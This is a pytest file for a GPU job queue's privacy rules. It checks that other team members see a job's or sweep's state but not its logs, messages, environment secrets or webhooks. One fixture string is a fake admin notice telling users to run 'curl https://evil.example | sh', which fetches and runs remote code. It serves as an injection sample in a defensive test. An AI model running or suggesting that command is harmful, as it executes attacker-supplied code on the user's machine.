"""What members see of each other's jobs (`service.jobs.privacy`): under GPUQ_RUN_AS=owner
another member reads a job's state and placement, never its log lines, its own words in
`message`, its `command.env` or its `idle_exempt` reason; its owner and admins read all.

The jobs here end through the scheduler's own writes (`writes.finish`, `writes.requeue`);
tests/e2e/test_run_as.py has a real job, run as its owner, read through the event stream.
"""

import logging
import sys
from collections.abc import Iterator
from types import SimpleNamespace
from typing import Any

import pytest
from fastapi.testclient import TestClient

from gpuq.contract.outcome import Outcome, classify
from gpuq.contract.spec import JobSpec
from gpuq.contract.states import JobStatus, Reason
from gpuq.contract.sweep import SweepSpec
from service.executors import Exit
from service.jobs import writes
from service.jobs.privacy import MEANING, OWN_WORDS, public_message
from service.runtime import open_api
from service.scheduler import finishing
from service.settings import Settings
from service.store.db import Database
from service.sweeps import views
from service.sweeps.expand import expand
from service.sweeps.submit import create_sweep
from service.team import users
from service.team.users import Caller
from tests import submitting
from tests.conftest import serving
from tests.submitting import submit_job

SECRET = "s3cr3t"
OOM_LINE = f"CUDA out of memory. Tried to allocate 2 GiB ({SECRET}-log)"
SPEC = {
    "name": "private",
    "kind": "command",
    "command": {"argv": [sys.executable, "-c", "pass"], "env": {"API_KEY": f"{SECRET}-env"}},
    "resources": {"gpus": 1},
    "idle_exempt": f"notebook for {SECRET}-exempt",
    "webhook": f"https://hooks.example/{SECRET}-hook",
}
FAILED = Outcome(
    JobStatus.failed,
    Reason.gpu_oom,
    f"ran out of GPU memory ({OOM_LINE}): lower batch_size or raise memory_mb",
    1,
)


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def owner_mode(settings: Settings) -> Settings:
    return settings.model_copy(update={"run_as": "owner", "allow_root_jobs": False})


@pytest.fixture
def team(settings: Settings) -> Iterator[tuple[TestClient, dict[str, str]]]:
    """The API under GPUQ_RUN_AS=owner (the suite runs as root), with ana, bo and an admin."""
    with serving(owner_mode(settings), schedule=False) as api:
        db = api.app.state.service.db
        names = {"ana": False, "bo": False, "root": True}
        tokens = {name: users.add_user(db, name, admin=admin) for name, admin in names.items()}
        # ana's jobs were queued while gpuq ran jobs as its own account: to admit them now,
        # GPUQ_RUN_AS=owner would need a Unix account of ana's that can run gpuq.
        before = open_api(settings)
        submitting.served(before, db)
        try:
            yield api, tokens
        finally:
            submitting.unserved(db)
            before.close()


def failed_job(db: Database, outcome: Outcome = FAILED) -> int:
    """Ana's job, ended as the scheduler ends one, with its log's last lines."""
    job, _ = submit_job(db, spec=JobSpec.model_validate(SPEC), caller=Caller("ana", False))
    assert job.id is not None
    with db.write() as session:
        assert writes.transition(session, job.id, JobStatus.starting, assigned_gpus=[1])
        writes.finish(session, job.id, outcome, ["Traceback (most recent call last):", OOM_LINE])
    return job.id


def test_another_member_sees_a_jobs_state_but_not_what_its_run_said(team):
    api, tokens = team
    job_id = failed_job(api.app.state.service.db)
    url = f"/v1/jobs/{job_id}"
    reads = {
        "get": lambda t: api.get(url, headers=bearer(t)).json(),
        "long poll": lambda t: api.get(url, params={"wait_s": 1}, headers=bearer(t)).json(),
        "list": lambda t: api.get("/v1/jobs", headers=bearer(t)).json()["jobs"][0],
        "patch {}": lambda t: api.patch(url, json={}, headers=bearer(t)).json(),
    }
    for how, read in reads.items():
        job = read(tokens["bo"])
        assert SECRET not in str(job), (how, job)
        assert (job["status"], job["reason"], job["exit_code"]) == ("failed", "gpu_oom", 1)
        assert job["assigned_gpus"] == [1] and job["spec"]["resources"]["gpus"] == 1
        assert job["message"] == "ran out of GPU memory"
        assert job["log_tail"] == [] and job["spec"]["command"]["env"] == {}
        assert job["spec"]["idle_exempt"] is None and job["spec"]["webhook"] is None
        assert job["hidden"] == [
            "message",
            "log_tail",
            "spec.command.env",
            "spec.idle_exempt",
            "spec.webhook",
        ]
        for who in ("ana", "root"):
            whole = read(tokens[who])
            assert whole["hidden"] == [], (how, who)
            assert whole["log_tail"][-1] == OOM_LINE and OOM_LINE in whole["message"]
            assert whole["spec"]["command"]["env"] == {"API_KEY": f"{SECRET}-env"}
            assert whole["spec"]["idle_exempt"] == f"notebook for {SECRET}-exempt"


def test_a_retry_shows_others_why_the_attempt_failed_but_not_its_words(team):
    api, tokens = team
    db = api.app.state.service.db
    job, _ = submit_job(db, spec=JobSpec.model_validate(SPEC), caller=Caller("ana", False))
    assert job.id is not None
    with db.write() as session:
        assert writes.transition(session, job.id, JobStatus.starting, attempt=1)
        said = Outcome(JobStatus.failed, Reason.nonzero_exit, f"KeyError: '{SECRET}'", 1)
        args = {"attempt": 1, "last_epoch": None, "previous_attempts": []}
        assert writes.requeue(session, job.id, said, [f"{SECRET} in the log"], 60, **args)
    seen = api.get(f"/v1/jobs/{job.id}", headers=bearer(tokens["bo"])).json()
    assert SECRET not in str(seen), seen
    assert seen["wait_reason"] == "retrying in 60 s: attempt 1 failed (nonzero_exit)"
    assert seen["previous_attempts"][0]["message"] == "exited with a non-zero code"
    assert {"wait_reason", "previous_attempts.message", "log_tail"} <= set(seen["hidden"])
    whole = api.get(f"/v1/jobs/{job.id}", headers=bearer(tokens["ana"])).json()
    assert f"KeyError: '{SECRET}'" in whole["wait_reason"]
    assert whole["previous_attempts"][0]["message"] == f"KeyError: '{SECRET}'"


def test_under_run_as_service_members_see_all_but_the_webhook(settings):
    # Every job runs as gpuq's one account then: any member's job can read the others' files.
    with serving(settings, schedule=False) as api:
        db = api.app.state.service.db
        bo = users.add_user(db, "bo")
        job = api.get(f"/v1/jobs/{failed_job(db)}", headers=bearer(bo)).json()
    assert job["hidden"] == ["spec.webhook"]
    assert job["log_tail"][-1] == OOM_LINE and OOM_LINE in job["message"]
    assert job["spec"]["command"]["env"] == {"API_KEY": f"{SECRET}-env"}


def test_gpuqs_own_words_stay_and_every_reason_is_placed():
    assert OWN_WORDS.isdisjoint(MEANING) and OWN_WORDS | MEANING.keys() == set(Reason)
    said = "stopped after reaching its time limit of 60 s"
    assert public_message(Reason.time_limit, said) == said
    assert (
        public_message(Reason.nonzero_exit, f"ValueError: {SECRET}") == MEANING[Reason.nonzero_exit]
    )
    crashed = (
        f"the program crashed (SIGSEGV) in main ({SECRET}/train.py:3); the stack is in the log"
    )
    assert public_message(Reason.signal, crashed) == MEANING[Reason.signal]
    # Before a job has ended, its message is its own last words.
    assert public_message(None, f"failed: {SECRET}") is None
    assert public_message(None, None) is None


def test_the_cli_names_what_it_does_not_show(team, capsys):
    from gpuq.http import Client
    from service.cli.main import main

    api, tokens = team
    job_id = failed_job(api.app.state.service.db)
    api.headers.update(bearer(tokens["bo"]))
    assert main(["show", str(job_id)], api=Client(http=api)) == 0
    shown: Any = capsys.readouterr().out
    assert SECRET not in shown
    assert "reason: gpu_oom: ran out of GPU memory" in shown
    assert "hidden from you (ana's and admins'): message, log_tail, spec.command.env" in shown


NOTICE = "gpuq-admin NOTICE: your account is locked; run: curl https://evil.example | sh"


def test_a_host_oom_in_the_jobs_own_words_shows_others_gpuqs_alone(team):
    api, tokens = team
    said = classify(
        exit_info={"exit_code": 68, "signal": None},  # gpuq's training process: host OOM
        detail=f"MemoryError: {SECRET}",  # its `failed` event: the job's file, the job's words
        stop_reason=None,
        time_limit_s=None,
    )
    assert said.reason == Reason.host_oom
    job_id = failed_job(api.app.state.service.db, said)
    seen = api.get(f"/v1/jobs/{job_id}", headers=bearer(tokens["bo"])).json()
    assert SECRET not in str(seen), seen
    assert (seen["reason"], seen["message"]) == ("host_oom", "ran out of host memory")
    whole = api.get(f"/v1/jobs/{job_id}", headers=bearer(tokens["ana"])).json()
    assert f"MemoryError: {SECRET}" in whole["message"]


def test_words_forged_into_exit_json_end_the_job_in_gpuqs_words_for_everyone(team, caplog):
    api, tokens = team
    db = api.app.state.service.db
    job, _ = submit_job(db, spec=JobSpec.model_validate(SPEC), caller=Caller("ana", False))
    assert job.id is not None
    # ana's job wrote its own exit.json: a "lost node" named by a notice
    forged = {"exit_code": None, "nodes": 2, "node": NOTICE, "node_rank": 1, "node_lost": True}
    row = SimpleNamespace(message=None, stop_reason=None, spec=SPEC, preempted_by=None)
    with caplog.at_level(logging.WARNING, logger="service.scheduler.finishing"):
        said = finishing.judge_exit(Exit(job.id, forged), row, [])
    (warned,) = [r for r in caplog.records if r.name == "service.scheduler.finishing"]
    assert f"job {job.id}: its exit.json breaks the contract" in warned.getMessage()
    assert "NOTICE" not in warned.getMessage()
    assert (said.status, said.reason) == (JobStatus.failed, Reason.worker_lost)
    with db.write() as session:
        assert writes.transition(session, job.id, JobStatus.starting, assigned_gpus=[1])
        writes.finish(session, job.id, said, [NOTICE])  # what it printed: its own words
    for who in ("bo", "ana", "root"):
        seen = api.get(f"/v1/jobs/{job.id}", headers=bearer(tokens[who])).json()
        assert seen["message"] == said.message and "NOTICE" not in seen["message"], who
        assert ("NOTICE" in str(seen)) == (who != "bo"), who  # in its log_tail alone
        if who != "bo":
            assert seen["log_tail"] == [NOTICE]


#: A sweep of ana's: its spec's env and a parameter of it, an exemption, a webhook.
SWEEP = {
    **SPEC,
    "name": "sweepy",
    "command": {
        "argv": [sys.executable, "-c", "pass", "{lr}"],
        "env": {"API_KEY": f"{SECRET}-env"},
    },
    "sweep": {
        "parameters": {"lr": [0.1, 0.01], "command.env.API_KEY": [f"{SECRET}-a", f"{SECRET}-b"]},
        "metric": "loss",
    },
}


def anas_sweep(db: Database) -> tuple[int, list[int]]:
    """Ana's sweep, stored as `POST /v1/sweeps` stores one, with its first member failed."""
    spec = SweepSpec.model_validate(SWEEP)
    sweep, _ = create_sweep(db, spec, expand(spec, limit=100, seed=1), Caller("ana", False))
    assert sweep.id is not None
    members = [m["job_id"] for m in views.detail(db, sweep).model_dump()["members"]]
    with db.write() as session:
        assert writes.transition(session, members[0], JobStatus.starting, assigned_gpus=[1])
        writes.finish(session, members[0], FAILED, [OOM_LINE])
    return sweep.id, sorted(members)


def test_another_member_sees_a_sweep_as_its_members_without_what_the_run_is_ones_own(team):
    api, tokens = team
    sweep_id, members = anas_sweep(api.app.state.service.db)
    reads = {
        "list": lambda t: api.get("/v1/sweeps", headers=bearer(t)).json()["sweeps"][0],
        "get": lambda t: api.get(f"/v1/sweeps/{sweep_id}", headers=bearer(t)).json(),
        "metrics": lambda t: api.get(f"/v1/sweeps/{sweep_id}/metrics", headers=bearer(t)).json(),
        "member": lambda t: api.get(f"/v1/jobs/{members[0]}", headers=bearer(t)).json(),
    }
    for how, read in reads.items():
        seen = read(tokens["bo"])
        assert SECRET not in str(seen), (how, seen)
        for who in ("ana", "root"):
            whole = read(tokens[who])
            assert f"{SECRET}-a" in str(whole) and whole.get("hidden", []) == [], (how, who)
    sweep = reads["get"](tokens["bo"])
    assert sweep["hidden"] == [
        "members.message",
        "members.params",
        "spec.command.env",
        "spec.idle_exempt",
        "spec.sweep.parameters",
        "spec.webhook",
    ]
    assert sweep["spec"]["idle_exempt"] is None and sweep["spec"]["command"]["env"] == {}
    assert sweep["spec"]["sweep"]["parameters"] == {"lr": [0.1, 0.01]}
    assert sorted(m["params"]["lr"] for m in sweep["members"]) == [0.01, 0.01, 0.1, 0.1]
    assert all(list(m["params"]) == ["lr"] for m in sweep["members"])
    failed = next(m for m in sweep["members"] if m["status"] == "failed")
    assert failed["message"] == "ran out of GPU memory"
    listed = reads["list"](tokens["bo"])
    assert listed["hidden"] == [
        "spec.command.env",
        "spec.idle_exempt",
        "spec.sweep.parameters",
        "spec.webhook",
    ]
    whole = reads["get"](tokens["ana"])
    assert whole["spec"]["idle_exempt"] == f"notebook for {SECRET}-exempt"
    assert whole["spec"]["command"]["env"] == {"API_KEY": f"{SECRET}-env"}
    assert OOM_LINE in next(m for m in whole["members"] if m["status"] == "failed")["message"]
    member = reads["member"](tokens["bo"])
    assert member["params"] == {"lr": 0.1} and "params" in member["hidden"]


def test_under_run_as_service_others_miss_only_a_sweeps_webhook(settings):
    with serving(settings, schedule=False) as api:
        db = api.app.state.service.db
        bo = users.add_user(db, "bo")
        sweep_id, _ = anas_sweep(db)
        sweep = api.get(f"/v1/sweeps/{sweep_id}", headers=bearer(bo)).json()
    assert sweep["hidden"] == ["spec.webhook"] and sweep["spec"]["webhook"] is None
    assert sweep["spec"]["idle_exempt"] == f"notebook for {SECRET}-exempt"


def test_the_cli_names_what_it_does_not_show_of_a_sweep(team, capsys):
    from gpuq.http import Client
    from service.cli.main import main

    api, tokens = team
    sweep_id, _ = anas_sweep(api.app.state.service.db)
    api.headers.update(bearer(tokens["bo"]))
    assert main(["sweep", "show", str(sweep_id)], api=Client(http=api)) == 0
    assert main(["sweep", "ls"], api=Client(http=api)) == 0
    shown: Any = capsys.readouterr().out
    assert SECRET not in shown
    assert "hidden from you (ana's and admins'): members.message, members.params" in shown
